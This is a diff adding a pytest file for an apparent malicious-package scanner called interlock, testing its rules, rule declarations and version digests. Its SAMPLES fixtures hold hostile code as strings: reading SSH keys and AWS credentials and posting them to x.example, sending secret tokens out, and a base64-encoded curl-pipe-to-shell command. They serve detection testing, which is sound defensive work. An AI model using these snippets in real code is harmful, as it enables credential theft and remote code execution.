@@ -1,0 +1,144 @@
+"""Rules are declared once, decide on typed fields, and their version follows their sources."""
+
+from __future__ import annotations
+
+import dataclasses
+import shutil
+from importlib import resources
+from pathlib import Path
+
+import pytest
+
+from interlock.analysis import engine
+from interlock.analysis.evidence import Evidence
+from interlock.analysis.rules import FILE_RULES
+from interlock.artifact.model import Artifact
+from interlock.model import version
+from interlock.model.rules import Stage
+from interlock.ruleset import ALL_RULES, RULES_BY_ID
+from tests.builders import sdist, wheel
+
+# One sample per decision a rule makes on what the extractor knew, not on what it said.
+SAMPLES: dict[str, Artifact] = {
+    "build tool at install": sdist(
+        {"setup.py": "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n"}
+    ),
+    "computed command at install": sdist({"setup.py": "import subprocess, sys\nsubprocess.call(sys.argv[1:])\n"}),
+    "literal and computed exec": wheel({"demo/__init__.py": "exec('x = 1')\nexec(open('v.py').read() + '')\n"}),
+    "plugin import": wheel({"demo/__init__.py": "import importlib, os\nimportlib.import_module(os.environ['P'])\n"}),
+    "program from PATH, fetched": sdist(
+        {
+            "setup.py": "import os, urllib.request\nurllib.request.urlretrieve('https://x.example/t', 't')\nos.system('db2cli validate')\n"
+        }
+    ),
+    "clipboard": wheel({"demo/__init__.py": "import pyperclip\npyperclip.copy(pyperclip.paste())\n"}),
+    "pyarmor": wheel(
+        {"demo/__init__.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\nimport os\nos.system('x')\n"}
+    ),
+    "credential stores sent": wheel(
+        {
+            "demo/__init__.py": "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+            "a = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://x.example', data=k + a)\n"
+        }
+    ),
+    "two secret variables sent": wheel(
+        {
+            "demo/__init__.py": "import os, requests\n"
+            "requests.post('https://x.example', json=[os.getenv('GITHUB_TOKEN'), os.getenv('AWS_SECRET_ACCESS_KEY')])\n"
+        }
+    ),
+    "drop site called when asked": wheel(
+        {"demo/util.py": "import requests\ndef f():\n    requests.get('https://webhook.site/abc')\n"}
+    ),
+    "decoded command": wheel(
+        {
+            "demo/__init__.py": "import base64, os\n"
+            "os.system(base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlL3AgfCBzaA==').decode())\n"
+        }
+    ),
+    "obfuscated identifiers and escapes": wheel(
+        {
+            "demo/__init__.py": "\n".join(f"IlIlIlIl{i} = '\\x70\\x72\\x69\\x6e\\x74\\x28'" for i in range(25))
+            + "\nimport os\nos.system('x')\n"
+        }
+    ),
+}
+
+
+def _reworded(evidence: Evidence) -> Evidence:
+    return dataclasses.replace(
+        evidence, facts=[dataclasses.replace(fact, detail="reworded") for fact in evidence.facts]
+    )
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES))
+def test_rewording_every_fact_changes_no_finding(name: str) -> None:
+    evidence = engine.gather_evidence(SAMPLES[name], engine.Deadline(60))
+    assert evidence.facts, "the sample must give the rules something to decide on"
+    as_seen = {(f.rule, f.severity, f.path, f.line) for f in engine.apply_rules(evidence)}
+    reworded = {(f.rule, f.severity, f.path, f.line) for f in engine.apply_rules(_reworded(evidence))}
+    assert as_seen == reworded
+    assert as_seen, "the sample must make at least one finding"
+
+
+def test_every_rule_is_declared_once_with_what_interlock_rules_shows() -> None:
+    assert len(RULES_BY_ID) == len(ALL_RULES)
+    for rule in ALL_RULES:
+        assert rule.id == rule.id.lower() and " " not in rule.id
+        assert rule.summary and len(rule.description) >= 40, rule.id
+        assert rule.severities == tuple(sorted(set(rule.severities))), rule.id
+
+
+def test_every_check_belongs_to_a_declared_file_rule() -> None:
+    assert FILE_RULES
+    for rule in FILE_RULES:
+        assert RULES_BY_ID[rule.id] is rule.info
+        assert rule.info.stage is Stage.FILES
+
+
+def test_other_stages_declare_their_rules_without_checks() -> None:
+    checked = {rule.id for rule in FILE_RULES}
+    stages = {rule.stage for rule in ALL_RULES if rule.id not in checked}
+    assert {Stage.HISTORY, Stage.PROVENANCE, Stage.INTEL} <= stages
+    assert {"version-jump", "provenance-missing", "known-malicious"} <= set(RULES_BY_ID) - checked
+
+
+def test_a_finding_of_an_undeclared_severity_is_refused() -> None:
+    rule = RULES_BY_ID["typosquat"]
+    with pytest.raises(ValueError, match="does not report"):
+        rule.finding(rule.severities[0].__class__.CRITICAL, "", None, "m", "e")
+
+
+def _copy_of_the_sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    copy = tmp_path / "interlock"
+    shutil.copytree(Path(str(resources.files("interlock"))), copy, ignore=shutil.ignore_patterns("__pycache__"))
+    monkeypatch.setattr(version.resources, "files", lambda package: copy)
+    return copy
+
+
+@pytest.mark.parametrize(
+    ("changed", "analyser_changes"),
+    [
+        ("analysis/rules/combinations.py", True),
+        ("analysis/extract/python/visitor.py", True),
+        ("diff/metadata.py", False),
+        ("intel/popular_names.txt", False),
+        ("index/provenance/rules.py", False),
+    ],
+)
+def test_the_versions_follow_the_sources(
+    changed: str, analyser_changes: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copy = _copy_of_the_sources(tmp_path, monkeypatch)
+    ruleset, analyser = version._digest(version._RULESET_PACKAGES), version._digest(version._ANALYSER_PACKAGES)
+    with (copy / changed).open("a") as file:
+        file.write("\n# changed\n")
+    assert version._digest(version._RULESET_PACKAGES) != ruleset
+    assert (version._digest(version._ANALYSER_PACKAGES) != analyser) is analyser_changes
+
+
+def test_a_change_elsewhere_keeps_the_rule_set_version(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    copy = _copy_of_the_sources(tmp_path, monkeypatch)
+    before = version._digest(version._RULESET_PACKAGES)
+    (copy / "report" / "text.py").write_text("# a report's wording decides no verdict\n")
+    assert version._digest(version._RULESET_PACKAGES) == before
